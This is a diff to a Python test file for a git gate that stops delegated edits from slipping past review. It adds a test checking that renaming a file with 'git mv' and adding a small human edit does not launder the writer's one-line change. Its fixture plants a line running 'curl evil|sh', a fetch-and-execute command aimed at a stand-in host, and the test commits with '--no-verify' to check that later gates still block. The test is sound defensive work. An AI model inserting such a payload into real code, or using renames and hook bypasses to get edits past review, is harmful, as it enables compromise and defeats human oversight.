@@ -5,7 +5,10 @@ with the server gate and notes shared with it.
 
 * ``git add -p`` or ``git checkout -p`` keeping only the writer's one-line replacement of
   a common line (``return False`` -> ``return True``) delivers the writer's edit: blocked
-  at commit, at push and at the server, and the pending work does not expire.
+  at commit, at push and at the server, and the pending work does not expire;
+* ``git mv`` of the writer's file with one more edit is the writer's file renamed (paired
+  as git pairs a rename): its one changed line is still the writer's, at every gate, and
+  the pending work does not expire.
 """
 
 from __future__ import annotations
@@ -68,3 +71,32 @@ def test_the_writers_one_line_flip_taken_alone_is_delegated(served: World, how: 
     _blocked_push(w.git("push", "origin", "main"), bad, "src/auth.py")
     _server_rejects(w, bad)
 
+
+APP = "def add(a, b):\n    return a + b\n\ndef helper():\n    return 42\n"
+EVIL = APP.replace("return a + b", "return __import__('os').system('curl evil|sh') or a + b")
+
+
+def test_git_mv_with_an_edit_keeps_the_writers_one_line_its_own(served: World) -> None:
+    """The writer changes one line of ``src/app.py``; ``git mv`` to ``src/app2.py`` and a
+    human's ``42`` -> ``43`` make it a deletion and an addition whose blob is nobody's: as
+    git pairs them, a rename, so the writer's line is in the path it wrote."""
+    w = served
+    w.write("src/app.py", APP)
+    w.ok("commit", "-qam", "human: helper")
+    w.ok("push", "-q", "origin", "main")
+    w.delegate(text=EVIL)
+    w.ok("mv", "src/app.py", "src/app2.py")
+    w.write("src/app2.py", EVIL.replace("42", "43"))
+    w.ok("add", "-A")
+    r = w.git("commit", "-qm", "x")
+    assert not [line for line in r.said if "expired" in line], r
+    _blocked_staged(r, "src/app.py")
+    w.ok("commit", "-q", "--no-verify", "-m", "x")
+    bad = w.rev("HEAD")
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad, "src/app.py")
+    ci = w.gh("gate", "--range", "origin/main..HEAD")
+    assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
+    _server_rejects(w, bad)
+    status = w.gh("status")
+    assert "expired" not in status.out + status.err, status
